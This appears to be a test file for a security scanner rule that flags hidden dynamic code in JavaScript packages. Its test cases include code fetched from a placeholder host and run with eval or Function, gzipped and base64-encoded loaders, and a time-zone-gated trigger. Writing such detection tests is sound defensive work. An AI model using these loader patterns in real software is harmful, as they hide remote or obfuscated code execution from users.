import * as assert from 'assert';
import type { Finding } from '../../../src/model/findings';
import { ruleTester } from '../../ruleTester';

const b64 = (s: string) => Buffer.from(s).toString('base64');

ruleTester('hidden-dynamic-code', {
  valid: [
    `const g = Function("return this")();`,
    `const bind = Function("binder", "return function (" + ["$0","$1"].join(",") + "){ return binder.apply(this, arguments); }");`,
    `eval(userInput);`,
    // A sandbox prelude written out in the file and joined before it runs (Qoder CLI 1.1.52): nothing hidden.
    `const vm = require("vm");\nconst PRELUDE = ["delete globalThis.WebAssembly;", "delete globalThis.ShadowRealm;", "Object.freeze(String.prototype);"];\nvm.runInContext(PRELUDE.join("\\n"), vm.createContext({}));`,
    // A file the user names, run in a sandbox: not the program's own code.
    `const fs = require("fs"), vm = require("vm");\nvm.runInNewContext(fs.readFileSync(process.argv[2], "utf8"), {});`,
    // A JavaScript file of the package, read and run: it is read as part of the program anyway.
    `const fs = require("fs"), path = require("path");\neval(fs.readFileSync(path.join(__dirname, "polyfill.js"), "utf8"));`,
    // A local variable named __dirname is not the module's folder.
    `const fs = require("fs");\nfunction run(__dirname) { return new Function(fs.readFileSync(__dirname + "/x.txt", "utf8")); }`,
    // A model's answer run in a sandbox: fields of a JSON response are data, not a download of code.
    `const vm = require("vm");\nconst r = await fetch("https://api.vendor.dev/v1/run", { method: "POST" });\nconst { code } = await r.json();\nvm.runInNewContext(code, {});`,
    // An address the user gives.
    `eval(await (await fetch(process.argv[2])).text());`,
  ],
  invalid: [
    // Code downloaded from a fixed address and run: not the program in the package.
    {
      code: `const code = await (await fetch("https://cdn.example.dev/agent/core.js")).text();\nnew Function(code)();`,
      findings: [{ severity: 'medium', line: 2, message: /downloaded at run time from https:\/\/cdn\.example\.dev\/agent\/core\.js/ }],
      check: (f) => assert.strictEqual(f[0].evidence.downloadsFrom, 'https://cdn.example.dev/agent/core.js'),
    },
    {
      code: `fetch("https://cdn.example.dev/p.js").then((r) => r.text()).then((t) => eval(t));`,
      findings: [{ severity: 'medium', line: 1 }],
    },
    {
      code: `const vm = require("vm");\n(async () => { vm.runInThisContext(Buffer.from(await (await fetch("https://cdn.example.dev/c.bin")).arrayBuffer()).toString()); })();`,
      findings: [{ severity: 'medium', line: 2 }],
    },
    // Code read from a file of the package not named as JavaScript, inflated and run: the scanner reads that file (loadsFile).
    {
      code: `const fs = require("fs"), path = require("path"), zlib = require("zlib");\nconst code = zlib.gunzipSync(fs.readFileSync(path.join(__dirname, "../lib/app.gz"))).toString("utf8");\nnew Function("require", code)(require);`,
      findings: [{ severity: 'medium', line: 3, message: /from \.\.\/lib\/app\.gz \(gunzipSync\) is run by Function/ }],
      check: (f) => assert.deepStrictEqual([f[0].evidence.loadsFile, f[0].evidence.steps], ['../lib/app.gz', ['gunzipSync']]),
    },
    {
      code: `const fs = require("fs"), vm = require("vm");\nvm.runInThisContext(fs.readFileSync(\`\${__dirname}/payload.txt\`, "utf8"));`,
      findings: [{ severity: 'medium', line: 2, message: /payload\.txt/ }],
    },
    {
      code: `import { readFileSync } from "fs";\nimport { fileURLToPath } from "url";\nconst text = readFileSync(fileURLToPath(new URL("./core.bin", import.meta.url))).toString();\n(0, eval)(text);`,
      findings: [{ severity: 'medium', line: 4 }],
      check: (f) => assert.strictEqual(f[0].evidence.loadsFile, 'core.bin'),
    },
    {
      code: `eval(atob("${b64('var answer = 40 + 2; console.log(answer);')}"));`,
      findings: [{ severity: 'high', line: 1 }],
    },
    {
      code: `const code = Buffer.from("${b64('if (Intl.DateTimeFormat().resolvedOptions().timeZone === "Asia/Shanghai") globalThis.x = 1;')}", "base64").toString();\nnew Function(code)();`,
      findings: [{ severity: 'high', line: 2, message: /inside it: The time zone is compared/ }],
      check: (f) => {
        const nested = f[0].evidence.nestedFindings as Finding[];
        assert.strictEqual(nested.length, 1);
        // Found in the decoded text: the same file, marked as decoded (its line and column count in that text).
        assert.deepStrictEqual([nested[0].file, nested[0].decoded, nested[0].line], [f[0].file, true, 1]);
      },
    },
    {
      code: `const vm = require("vm");\nvm.runInNewContext(String.fromCharCode(${[...'globalThis.y = 1 + 2;'].map((c) => c.charCodeAt(0)).join(',')}));`,
      findings: [{ severity: 'high', line: 2 }],
    },
  ],
});
